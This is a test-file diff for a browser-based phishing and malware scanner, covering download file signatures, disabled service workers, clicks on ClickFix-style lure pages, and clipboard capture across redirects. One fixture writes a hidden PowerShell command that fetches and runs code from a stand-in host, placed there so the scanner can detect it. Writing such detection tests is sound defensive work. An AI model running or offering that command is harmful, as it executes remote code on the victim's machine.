@@ -8,7 +8,7 @@ import { Ajv2020 } from 'ajv/dist/2020.js';
 import { scanResultSchema } from '../analysis/fixtures.js';
 import { analyzeFetch } from '../../src/analysis/analyze.js';
 import type { ScanResult } from '../../src/analysis/result.js';
-import { chromiumEgressLaunchArgs, defaultPolicy } from '@lookout/egress';
+import { defaultPolicy } from '@lookout/egress';
 import { BrowserPool } from '../../src/capture/browser-pool.js';
 import { proxiedEgress } from '../../src/capture/egress.js';
 import { scanWithBrowser, type BrowserEngineDeps } from '../../src/capture/browser-engine.js';
@@ -119,7 +119,7 @@ describe('scanner-worker browser engine (real Chromium)', function () {
     });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
     base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-    pool = new BrowserPool({ executablePath: CHROMIUM, args: chromiumEgressLaunchArgs(), recycleAfterScans: 100, maxRssMb: 4096, logger });
+    pool = new BrowserPool({ executablePath: CHROMIUM, recycleAfterScans: 100, maxRssMb: 4096, logger });
     await pool.start();
     const rules = await defaultRules();
     const index = new ThreatIntelIndex([]);
@@ -284,6 +284,7 @@ describe('scanner-worker browser engine (real Chromium)', function () {
     assert.match(download?.url ?? '', /^blob:/);
     assert.equal(download?.bytes, payload.length);
     assert.equal(download?.sha256, createHash('sha256').update(payload).digest('hex'));
+    assert.equal(download?.magic, 'pe', 'the MZ bytes make it a Windows executable');
     assert.ok(signalIds(result).includes('executable-download'), signalIds(result).join());
   });
 
@@ -304,9 +305,60 @@ describe('scanner-worker browser engine (real Chromium)', function () {
     </script>`));
     const result = await scan('/data-smuggle');
     const byName = (name: string) => result.capture!.downloads.find((d) => d.filename === name);
-    assert.deepEqual([byName('update.exe')?.sha256, byName('update.exe')?.bytes, byName('update.exe')?.mimeType], [createHash('sha256').update(exe).digest('hex'), exe.length, 'application/octet-stream']);
+    assert.deepEqual([byName('update.exe')?.sha256, byName('update.exe')?.bytes, byName('update.exe')?.mimeType, byName('update.exe')?.magic], [createHash('sha256').update(exe).digest('hex'), exe.length, 'application/octet-stream', 'pe']);
     assert.equal(byName('percent.txt')?.sha256, createHash('sha256').update('100% sure').digest('hex'));
+    assert.equal(byName('percent.txt')?.magic, null, 'plain text has no file signature');
     assert.equal(byName('notes.txt')?.sha256, createHash('sha256').update(notes).digest('hex'), JSON.stringify(result.capture!.downloads));
+  });
+
+  it('service workers are off: a page registering one gets no worker, and its script is never fetched from the target', async () => {
+    let scriptsServed = 0;
+    routes.set('/sw.js', (_req, res) => {
+      scriptsServed += 1;
+      res.writeHead(200, { 'content-type': 'text/javascript' });
+      res.end("self.addEventListener('fetch', (event) => event.respondWith(new Response('from the worker')));");
+    });
+    // The page reports the outcome in its title: the number of workers registered for its origin.
+    routes.set('/registers-worker', html(`<!doctype html><title>pending</title><script>
+      navigator.serviceWorker.register('/sw.js').catch(() => null)
+        .then(() => navigator.serviceWorker.getRegistrations())
+        .then((list) => { document.title = 'workers:' + list.length; });
+    </script>`));
+    const result = await scan('/registers-worker');
+    assert.equal(result.page?.title, 'workers:0');
+    assert.equal(scriptsServed, 0, 'the worker script was fetched from the target');
+  });
+
+  it('clicks the page only when it gives a reason: a click handler alone is left alone, one beside ClickFix steps is clicked', async () => {
+    const clicks: Record<string, number> = {};
+    routes.set('/clicked', (req, res) => {
+      const which = new URL(req.url ?? '/', base).searchParams.get('page') ?? '';
+      clicks[which] = (clicks[which] ?? 0) + 1;
+      res.writeHead(204);
+      res.end();
+    });
+    const page = (name: string, text: string) =>
+      html(`<!doctype html><title>${name}</title><body><p>${text}</p><div id="b" role="button">Continue</div><script>
+        document.getElementById('b').addEventListener('click', () => { fetch('/clicked?page=${name}'); });
+      </script>`);
+    routes.set('/menu', page('menu', 'An ordinary page with a button.'));
+    routes.set('/steps', page('steps', 'To verify: press Windows + R, then CTRL + V, then Enter.'));
+    await scan('/menu');
+    await scan('/steps');
+    assert.equal(clicks['menu'] ?? 0, 0, 'a page with no reason was clicked');
+    assert.equal(clicks['steps'], 1, 'the page with ClickFix steps was not clicked');
+  });
+
+  it('keeps clipboard writes made before a same-origin script redirect (the recorder survives the navigation)', async () => {
+    routes.set('/copy-then-go', html(`<!doctype html><title>loading</title><script>
+      navigator.clipboard.writeText('powershell -w hidden -c iwr https://x.example/a | iex');
+      setTimeout(() => { location.href = '/landed'; }, 50);
+    </script>`));
+    routes.set('/landed', html('<!doctype html><title>landed</title><p>done</p>'));
+    const result = await scan('/copy-then-go');
+    assert.equal(new URL(result.finalUrl).pathname, '/landed');
+    const copied = result.signals.find((signal) => signal.id === 'clipboard-shell-command');
+    assert.match(copied?.evidence ?? '', /^clipboard: powershell -w hidden/, JSON.stringify({ signals: result.signals.map((signal) => signal.id), incidents: result.capture?.incidents }));
   });
 
   it('applies the job options: user agent, language, referer, extra headers, mobile device', async () => {
